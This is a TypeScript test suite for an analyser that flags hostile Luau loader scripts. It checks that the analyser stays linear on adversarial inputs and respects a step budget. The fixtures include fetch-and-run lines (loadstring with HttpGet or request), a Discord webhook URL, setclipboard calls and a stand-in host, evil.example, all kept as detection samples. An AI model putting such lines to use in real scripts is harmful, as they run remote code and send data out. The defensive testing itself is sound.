import { describe, expect, it } from 'vitest';
import { MAX_STEPS } from '../../contract/loader-budget.ts';
import { analyseLoader, loaderFacts } from '../../contract/loader-analysis.ts';
import { tokenize } from '../../contract/luau-tokens.ts';

// The loader analysis on hostile loaders (docs/decisions.md#a-linear-bounded-off-thread-loader-analysis):
// linear in the loader's length, counted in steps (never timed), and bounded by MAX_STEPS, past which it
// answers the `incomplete` finding. Issue 24: `x=1` × 3,000 took 13 s and × 6,666 83 s; `` `{ `` × 3,000
// overflowed the tokenizer's recursion.

/** The longest loader the forms accept is 20,000 characters: each shape is repeated to just under it. */
const LIMIT = 19_998;
const fill = (unit: string, length = LIMIT) => unit.repeat(Math.floor(length / unit.length));

/** Shapes that made the old analysis quadratic (or overflow), each with what it must still find. */
const HOSTILE: { name: string; source: (length: number) => string; findings: string[]; domains?: string[] }[] = [
  { name: 'x=1 repeated (assignments never separated)', source: (length) => fill('x=1', length), findings: [] },
  { name: 'x=1 on lines', source: (length) => fill('x=1\n', length), findings: [] },
  { name: 'nested backtick strings', source: (length) => fill('`{', length), findings: [] },
  { name: 'nested tables in assignments', source: (length) => fill('x={', length), findings: [] },
  { name: 'nested parentheses in assignments', source: (length) => fill('x=(', length), findings: [] },
  { name: 'nested fetch calls', source: (length) => fill('request(', length), findings: [] },
  { name: 'nested string.char calls', source: (length) => fill('string.char(', length), findings: [] },
  { name: 'chained assignments', source: (length) => fill('x=y=', length), findings: [] },
  { name: 'brackets of every kind never closed', source: (length) => fill('([{', length), findings: [] },
  { name: 'a fetch under many other names', source: (length) => fill('f=request f(', length), findings: [] },
  {
    name: 'a webhook in tables nested to the end',
    source: (length) => `request(${fill('{x="https://discord.com/api/webhooks/1/demo",', length - 10)})`,
    findings: ['webhook'],
    domains: ['discord.com'],
  },
  {
    name: 'a URL joined to itself on every line, then fetched and run',
    source: (length) => `${fill('a = "https://x.example/" .. a .. a .. a .. a\n', length - 30)}\nloadstring(request(a))()`,
    findings: ['remote-code'],
    domains: ['x.example'],
  },
];

describe('the loader analysis on hostile loaders', () => {
  it.each(HOSTILE.map((shape) => [shape.name, shape] as const))('reads %s in full, in steps linear in its length', (_, shape) => {
    const source = shape.source(LIMIT);
    expect(source.length).toBeGreaterThan(LIMIT - 100);
    const { findings, domains, steps } = loaderFacts(source);
    expect(findings).toEqual(shape.findings);
    if (shape.domains) expect(domains).toEqual(shape.domains);
    // A few steps per character, far inside the budget; half the text takes about half the steps.
    expect(steps).toBeLessThan(8 * source.length);
    const half = loaderFacts(shape.source(LIMIT / 2)).steps;
    expect(steps).toBeLessThan(2.2 * half + 100);
  });

  it('answers the same analysis through analyseLoader, the one the staff forms run', () => {
    expect(analyseLoader(fill('x=1', 19_800))).toEqual({ domains: [], findings: [] });
    expect(analyseLoader(fill('`{', 6_000))).toEqual({ domains: [], findings: [] });
  });

  it('tokenizes backtick strings nested 10,000 deep without recursion, each string before its expression', () => {
    const tokens = tokenize(`${'`{'.repeat(10_000)}x`);
    expect(tokens).toHaveLength(10_001);
    expect(tokens.slice(0, 2).map((token) => [token.kind, token.offset])).toEqual([['string', 0], ['string', 2]]);
    expect(tokens.at(-1)).toMatchObject({ kind: 'name', text: 'x' });
    expect(tokenize('`a{`b{c}d`}e`').map((token) => `${token.kind}:${token.text}`)).toEqual(['string:ae', 'string:bd', 'name:c']);
  });

  it('stops at its step budget with the incomplete finding, every URL in a string then counted as fetched', () => {
    // Far past what the forms accept: the budget, not the length, ends it.
    const huge = `local hook = "https://discord.com/api/webhooks/1/demo"\n${fill('x={', 100_000)}`;
    const facts = loaderFacts(huge);
    expect(facts.steps).toBe(MAX_STEPS);
    expect(facts.findings).toEqual(['webhook', 'incomplete']);
    expect(facts.domains).toEqual(['discord.com']);
    expect(analyseLoader(huge).findings.map((item) => [item.code, item.severity])).toEqual([['webhook', 'high'], ['incomplete', 'medium']]);

    // A smaller budget shows what is still found past it: names, obfuscation, and every string's URL.
    const loader = 'setclipboard("k")\nlocal u = "https://evil.example/a.lua"\nprint(u)\nloadstring(game:HttpGet("https://raw.githubusercontent.com/x.lua"))()';
    expect(loaderFacts(loader).findings).toEqual(['clipboard', 'remote-code']);
    expect(loaderFacts(loader).domains).toEqual(['raw.githubusercontent.com']);
    const cut = loaderFacts(loader, 10);
    expect(cut).toMatchObject({ findings: ['clipboard', 'incomplete', 'remote-code'], domains: ['evil.example', 'raw.githubusercontent.com'], steps: 10 });
  });
});
